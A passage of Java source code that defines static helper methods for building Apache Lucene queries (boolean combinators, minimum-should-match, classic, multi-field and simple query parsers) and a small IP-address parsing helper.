        return kw("_exists_", field);
    }

    private static Query text(String field, String text, Occur occur) {
        Query q = BUILDER.createBooleanQuery(field, text, occur);
        return q == null ? new MatchNoDocsQuery() : q;
    }

    private static Query msm(Query q, int n) {
        BooleanQuery.Builder b = new BooleanQuery.Builder().setMinimumNumberShouldMatch(n);
        ((BooleanQuery) q).clauses().forEach(b::add);
        return b.build();
    }

    private static Query or(Query... qs) {
        BooleanQuery.Builder b = new BooleanQuery.Builder();
        for (Query q : qs) {
            b.add(q, Occur.SHOULD);
        }
        return b.build();
    }

    private static Query and(Query... qs) {
        BooleanQuery.Builder b = new BooleanQuery.Builder();
        for (Query q : qs) {
            b.add(q, Occur.MUST);
        }
        return b.build();
    }

    private static Query classic(String text, String defaultField, QueryParser.Operator op) throws RuntimeException {
        QueryParser p = new QueryParser(defaultField, SEARCH);
        p.setDefaultOperator(op);
        p.setAllowLeadingWildcard(true);
        p.setSplitOnWhitespace(false);
        try {
            return p.parse(text);
        } catch (org.apache.lucene.queryparser.classic.ParseException e) {
            throw new IllegalStateException(e);
        }
    }

    private static Query msmClassic(String text, int n, String... fields) {
        org.apache.lucene.queryparser.classic.MultiFieldQueryParser p =
                new org.apache.lucene.queryparser.classic.MultiFieldQueryParser(fields, SEARCH);
        p.setSplitOnWhitespace(false);
        try {
            return msm(p.parse(text), n);
        } catch (org.apache.lucene.queryparser.classic.ParseException e) {
            throw new IllegalStateException(e);
        }
    }

    private static Query simple(String text, Occur op, String... fields) {
        Map<String, Float> weights = new LinkedHashMap<>();
        for (String f : fields) {
            weights.put(f, 1f);
        }
        SimpleQueryParser p = new SimpleQueryParser(SEARCH, weights);
        p.setDefaultOperator(op);
        return p.parse(text);
    }

    private static InetAddress ip(String s) {
        try {
            return InetAddress.getByName(s);
        } catch (java.net.UnknownHostException e) {
            throw new IllegalStateException(e);
        }
    }
}
